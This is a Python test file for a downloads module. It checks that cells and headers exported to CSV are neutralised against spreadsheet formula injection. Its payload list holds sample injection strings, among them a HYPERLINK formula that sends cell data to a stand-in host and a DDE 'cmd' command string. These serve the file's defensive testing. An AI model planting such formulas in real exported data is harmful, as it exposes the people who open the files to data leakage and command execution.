"""Downloads are safe to open in a spreadsheet: no cell can start a formula."""

import io

import pandas as pd

from cbme.downloads import csv_text, spreadsheet_safe

PAYLOADS = ['=HYPERLINK("http://example.org/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\tTAB", "\rCR"]


def test_every_formula_start_is_quoted_and_plain_text_kept():
    assert [spreadsheet_safe(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert spreadsheet_safe("Avery Stone") == "Avery Stone"
    assert spreadsheet_safe("a = b") == "a = b"  # only a leading sign matters
    assert spreadsheet_safe(-3) == -3  # numbers are numbers, not formulas


def test_csv_cells_and_headers_are_neutralised_numbers_and_missing_values_kept():
    frame = pd.DataFrame({"name": PAYLOADS, "=header": range(len(PAYLOADS)),
                          "note": [None, "ok", "-", "", "x", "y"]})
    read = pd.read_csv(io.StringIO(csv_text(frame)), dtype=str, keep_default_na=False)
    assert list(read.columns) == ["name", "'=header", "note"]
    assert list(read["name"]) == ["'" + p for p in PAYLOADS]
    assert list(read["'=header"]) == [str(n) for n in range(len(PAYLOADS))]
    assert list(read["note"]) == ["", "ok", "'-", "", "x", "y"]
    for cell in read.to_numpy().ravel():
        assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
